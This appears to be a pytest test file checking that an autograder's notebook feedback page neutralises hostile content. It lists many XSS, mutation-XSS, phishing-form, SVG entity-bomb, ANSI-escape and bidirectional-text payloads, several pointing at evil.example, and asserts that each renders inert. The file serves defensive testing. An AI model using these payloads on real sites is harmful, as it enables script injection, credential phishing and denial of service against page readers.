"""Notebooks made to attack whoever reads the page: every payload must be inert, and the page whole."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest

from autograder.reports.feedback import feedback_page
from tests.reports import examples
from tests.reports.examples import code, data, markdown, notebook, png, stream
from tests.reports.reading import Page

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
DOUBLING = "".join(
    f'<g id="g{n}"><use xlink:href="#g{n - 1}"/><use xlink:href="#g{n - 1}"/></g>' for n in range(1, 40)
)
RAW = {
    "script": "<script>alert(1)</script>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler on allowed element": '<td onclick="alert(1)" onmouseover=alert(2)>x</td><p onfocus=alert(1)>y</p>',
    "script link": '<a href="javascript:alert(1)">x</a><a href="JaVa&#9;Script:alert(1)">y</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "remote picture": '<img src="https://evil.example/x.png"><img srcset="//evil.example/x 2x">',
    "frame": '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src=x>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    "form": '<form action="https://evil.example"><input name=p autofocus><button>Log in again</button></form>',
    "cover": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Score: 100</div>',
    "style sheet": "<style>body{display:none}.of{content:'100'}</style><link rel=stylesheet href=//evil.example/>",
    "our classes": '<span class="badge good" id="q1">passed</span><p id="cell-1" name="top">x</p>',
    "way out": '</div></div></section></main></body></html><h1 class="big">100 of 100</h1><plaintext>',
    "comment": "<!--><script>alert(1)</script>--><!-- x --!> <b>y</b>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe></iframe></foreignObject></svg>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img onerror=alert(1)>'>",
    "huge spans": '<table><tr><td colspan="99999999" rowspan="65000">x</td></tr></table>',
    "nesting": "<div>" * 3000 + "deep" + "<b><i>" * 500,
    "popover": "<div popover id=p>x</div><details open ontoggle=alert(1)><summary>x</summary></details>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x\0onerror=alert(1)>",
    "private marks": "\ue0000\ue001 &#xE000;0&#xE001; &#57344;1&#57345;",
}
MARKDOWN = {
    "script link": "[x](javascript:alert(1)) [y](<java\nscript:alert(1)>) [z](data:text/html;base64,PHNjcmlwdD4=)",
    "remote link": "[your grade](https://evil.example) <https://evil.example>",
    "remote picture": "![x](https://evil.example/x.png) ![y](//evil.example) ![z](file:///etc/passwd)",
    "picture with handler": '![x" onerror="alert(1)](x "y\' onerror=alert(1)")',
    "svg as picture": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "reference": "[x][1]\n\n[1]: javascript:alert(1) 'onclick=alert(1)'",
    "formula link": r"$\href{javascript:alert(1)}{x}$ $$\href{https://evil.example}{x}$$",
    "formula style": r"$\style{position:fixed}{x}$ $\class{badge}{x}$ $\cssId{q1}{x}$ $\color{red}{x}$",
    "formula text": r"$\text{<script>alert(1)</script>}$ $\mathrm{<img onerror=alert(1)>}$ $\text{&lt;script&gt;}$",
    "formula of great size": r"$\rule{9999em}{9999em} \hspace{-9999em} \kern{9999em} \raisebox{-99em}{x}$",
    "formula of great depth": "$" + "{" * 900 + "x" + "}" * 900 + "$ $" + r"\frac{" * 300 + "$",
    "formula with macros": r"$\def\a{\b\b}\def\b{\c\c}\a$ $\newcommand{\x}{\x\x}\x$",
    "broken formulas": r"$\frac{$ $$\begin{matrix} & \\$$ $\left( x$ $$ $ \[ \( \end{align}",
    "fence": "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "table": "| <script> | b |\n|---|:-:|\n| `</td>` | <img onerror=x> |",
    "emphasis": "*_" * 400 + "[" * 400 + ">" * 400,
}
OUTPUTS: dict[str, dict[str, Any]] = {
    "javascript": data(js="alert(1)"),
    "html as plain": data(plain="</pre><script>alert(1)</script>"),
    "stream": stream(
        "</pre><script>alert(1)</script>\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J\x1b[H"
    ),
    "colours": stream("\x1b[38;5;999m\x1b[38;2;1m\x1b[48;5;1m\x1b[;;;m\x1b[31" + "\x1b[1m" * 9000 + "x"),
    "unknown stream": {"output_type": "stream", "name": '"><script>', "text": ["<script>", 3, None]},
    "traceback": {
        "output_type": "error",
        "ename": "<b>",
        "evalue": "<script>",
        "traceback": ["<script>alert(1)</script>"],
    },
    "traceback of nothing": {"output_type": "error", "ename": "<script>", "evalue": ["x"], "traceback": 7},
    "mime name": {"output_type": "display_data", "data": {"<script>alert(1)</script>\u202e": "x"}},
    "png that is html": data(png=base64.b64encode(b"<html><script>alert(1)</script>").decode()),
    "png with quotes": data(png='"><script>alert(1)</script>'),
    "png of great size": data(png=png(100_000, 100_000)),
    "jpeg of nothing": data(jpeg=base64.b64encode(b"\xff\xd8\xff\xe0").decode()),
    "svg script": data(svg=SVG.format("<script>alert(1)</script>")),
    "svg frame": data(
        svg=SVG.format("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>")
    ),
    "svg entities": data(svg='<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + SVG.format("&b;")),
    "svg doubling": data(svg=SVG.format('<g id="g0"><rect/></g>' + DOUBLING)),
    "svg in a circle": data(svg=SVG.format('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
    "latex": data(latex=r"$\href{javascript:alert(1)}{x}$<script>alert(1)</script>"),
    "markdown": data(md="<script>alert(1)</script>[x](javascript:alert(1))"),
    "widget": {
        "output_type": "display_data",
        "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    },
    "no bundle": {"output_type": "display_data", "data": [1, 2]},
    "no output": {"output_type": ["x"]},
}


def read(*cells: dict[str, Any]) -> Page:
    return Page(feedback_page(examples.weak(), examples.INFO, examples.SANDBOX, notebook(*cells)))


@pytest.mark.parametrize(
    "name", [name for name in RAW if name not in ("huge spans", "private marks", "null bytes")]
)
def test_the_payloads_would_be_noticed(name: str) -> None:
    ours = examples.ordinary()
    html = feedback_page(examples.weak(), examples.INFO, examples.SANDBOX, ours)
    raw = Page(html.replace("</main>", RAW[name] + "</main>"))
    assert raw.faults or len(raw.ids) > len(set(raw.ids))


def assert_inert(page: Page) -> None:
    assert page.faults == []
    assert len(page.ids) == len(set(page.ids))
    assert page.html.rstrip().endswith("</html>")
    assert "evil.example" not in "".join([*page.links, *page.images])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ue000-\uf8ff]", page.html)


@pytest.mark.parametrize("name", RAW)
def test_raw_html_in_markdown_is_inert(name: str) -> None:
    assert_inert(read(markdown(f"before {RAW[name]} after"), markdown(RAW[name]), code("ours = 1")))


@pytest.mark.parametrize("name", RAW)
def test_html_outputs_are_inert(name: str) -> None:
    assert_inert(
        read(code("x", data(html=f"<p>{RAW[name]}"), data(html=RAW[name], plain=RAW[name])), code("ours = 1"))
    )


@pytest.mark.parametrize("name", RAW)
def test_hostile_source_is_text(name: str) -> None:
    assert_inert(read(code(RAW[name], stream(RAW[name])), {"cell_type": "raw", "source": RAW[name]}))


@pytest.mark.parametrize("name", MARKDOWN)
def test_hostile_markdown_is_inert(name: str) -> None:
    assert_inert(read(markdown(MARKDOWN[name]), code("ours = 1")))


@pytest.mark.parametrize("name", OUTPUTS)
def test_hostile_outputs_are_inert(name: str) -> None:
    assert_inert(read(code("x", OUTPUTS[name]), code("ours = 1")))


@pytest.mark.parametrize("name", ["script link", "remote link", "formula link"])
def test_no_link_of_the_student_stays(name: str) -> None:
    ours = read(markdown("nothing"))
    assert read(markdown(MARKDOWN[name])).links == ours.links


def test_the_address_of_a_link_can_be_read() -> None:
    assert "x (https://docs.example/a)" in read(markdown("[x](https://docs.example/a)")).text


def test_pictures_that_are_not_pictures_are_named() -> None:
    assert (
        "A picture that is damaged or too large to show." in read(code("x", OUTPUTS["png that is html"])).text
    )


@pytest.mark.parametrize(
    "name", ["svg script", "svg frame", "svg entities", "svg doubling", "svg in a circle"]
)
def test_a_drawing_that_is_more_than_that_is_not_shown(name: str) -> None:
    assert read(code("x", OUTPUTS[name])).images == []


def test_a_plain_drawing_is_shown() -> None:
    plain = '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">\n'
    assert len(read(code("x", data(svg=plain + SVG.format('<path d="M0 0"/>')))).images) == 1


def test_classes_of_the_student_do_not_pass() -> None:
    assert 'class="badge good">passed' not in read(markdown(RAW["our classes"])).html


def test_bidirectional_controls_are_spelled_out() -> None:
    page = read(code("# \u202eevil\u202c"), markdown("&#x202E;evil &#x2066;"))
    assert page.text.count("⟨U+202E⟩") == 2
    assert_inert(page)


def test_towers_of_marks_are_cut() -> None:
    assert "\u0300" * 4 not in read(markdown("a" + "\u0300" * 500)).html


def test_a_broken_formula_shows_its_source() -> None:
    page = read(markdown(r"This $\frac{1$ is broken."))
    assert r"\frac{1" in page.text
    assert "math" not in page.tags


def test_an_unknown_command_shows_the_source_of_its_formula() -> None:
    assert r"\nosuchthing{x}" in read(markdown(r"$\nosuchthing{x}$")).text


def test_a_very_long_output_is_cut_with_a_note() -> None:
    page = read(code("x", stream("a" * 3_000_000)))
    assert "characters are left out here" in page.text
    assert len(page.html) < 100_000


def test_very_many_long_outputs_are_cut_by_the_page() -> None:
    page = read(*(code("x", *[stream("a" * 12_000, str(n)) for n in range(20)]) for _ in range(30)))
    assert "the page would become too long" in page.text
    assert len(page.html) < 2_000_000


def test_very_many_outputs_of_a_cell_are_cut_with_a_note() -> None:
    assert (
        "9,960 more outputs of this cell are not shown." in read(code("x", *[data(plain="a")] * 10_000)).text
    )


def test_ten_thousand_cells_are_bounded_and_the_answers_among_them_shown() -> None:
    cells = [code(f"x = {n}") for n in range(10_000)]
    question = examples.question("q", "Q", examples.a_test("t"), cells=(9_000,))
    html = feedback_page(examples.submission(question), examples.INFO, examples.SANDBOX, notebook(*cells))
    page = Page(html)
    assert "cell-9001" in page.ids
    assert "8,600 cells are not shown here" in page.text
    assert len(html) < 1_000_000


def test_a_very_long_source_is_cut_with_a_note() -> None:
    assert "characters are left out here" in read(code("x = 1\n" * 100_000)).text


@pytest.mark.parametrize("cells", [None, 7, "x", [1, None, "x", []], [{}], [{"cell_type": [], "source": {}}]])
def test_a_notebook_of_the_wrong_shape_has_a_page(cells: Any) -> None:
    html = feedback_page(examples.weak(), examples.INFO, examples.SANDBOX, {"cells": cells})
    assert_inert(Page(html))


@pytest.mark.parametrize("name", RAW)
def test_the_plain_page_is_inert(name: str) -> None:
    shown = notebook(markdown(RAW[name]), code(RAW[name]))
    assert_inert(Page(feedback_page(examples.weak(), examples.INFO, examples.SANDBOX, shown, plain=True)))
